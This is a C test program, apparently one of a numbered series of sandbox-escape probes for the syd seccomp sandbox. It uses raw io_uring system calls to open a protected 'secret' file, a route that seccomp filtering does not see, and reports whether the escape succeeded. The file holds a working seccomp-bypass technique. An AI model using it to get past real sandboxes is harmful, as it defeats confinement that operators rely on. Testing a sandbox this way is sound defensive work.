/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Attack 12: open the secret through io_uring. An IORING_OP_OPENAT is run
 * by the kernel from the ring, not by a system call of ours, so seccomp
 * never sees it: the only defence is not to let the ring exist
 * (io_uring_setup fails with ENOSYS under syd). Raw system calls and
 * <linux/io_uring.h>, no liburing.
 */
#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "esc.h"

int main(int argc, char **argv)
{
	struct io_uring_params p;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	size_t sq_size, cq_size;
	unsigned char *sq, *cq;
	struct esc e;
	long ring;
	int res;

	esc_init(&e, argc, argv);
	memset(&p, 0, sizeof(p));
	ring = syscall(__NR_io_uring_setup, 4, &p);
	if (ring < 0)
		esc_exit(&e, ESC_UNSUPPORTED,
			 "io_uring_setup: %s (no ring: blocked, or disabled "
			 "in this kernel)",
			 esc_errname(errno));
	sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if ((p.features & IORING_FEAT_SINGLE_MMAP) && cq_size > sq_size)
		sq_size = cq_size;
	sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_POPULATE, (int)ring, IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		esc_exit(&e, ESC_SETUP, "mmap SQ ring: %s", strerror(errno));
	cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cq_size, PROT_READ | PROT_WRITE,
			  MAP_SHARED | MAP_POPULATE, (int)ring,
			  IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			esc_exit(&e, ESC_SETUP, "mmap CQ ring: %s",
				 strerror(errno));
	}
	sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe),
		    PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
		    (int)ring, IORING_OFF_SQES);
	if (sqes == MAP_FAILED)
		esc_exit(&e, ESC_SETUP, "mmap SQEs: %s", strerror(errno));
	sq_tail = (unsigned *)(sq + p.sq_off.tail);
	sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	sq_array = (unsigned *)(sq + p.sq_off.array);
	cq_head = (unsigned *)(cq + p.cq_off.head);
	cq_tail = (unsigned *)(cq + p.cq_off.tail);
	cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);

	/* One IORING_OP_OPENAT of the secret's absolute path. */
	memset(&sqes[0], 0, sizeof(sqes[0]));
	sqes[0].opcode = IORING_OP_OPENAT;
	sqes[0].fd = AT_FDCWD;
	sqes[0].addr = (uint64_t)(uintptr_t)e.secret;
	sqes[0].open_flags = O_RDONLY | O_CLOEXEC;
	sqes[0].user_data = 1;
	{
		unsigned tail = *sq_tail;

		sq_array[tail & *sq_mask] = 0;
		/* The kernel must see the entry before the new tail. */
		__atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
	}
	if (syscall(__NR_io_uring_enter, (int)ring, 1, 1,
		    IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		esc_exit(&e, ESC_BLOCKED, "io_uring_enter: %s",
			 esc_errname(errno));
	if (__atomic_load_n(cq_tail, __ATOMIC_ACQUIRE) == *cq_head)
		esc_exit(&e, ESC_SETUP, "no completion");
	res = cqes[*cq_head & *cq_mask].res;
	if (esc_check_close(res))
		esc_exit(&e, ESC_ESCAPED, "IORING_OP_OPENAT read TOPSECRET");
	esc_exit(&e, ESC_BLOCKED, "IORING_OP_OPENAT: %s",
		 res < 0 ? esc_errname(-res) : "opened, not the secret");
}
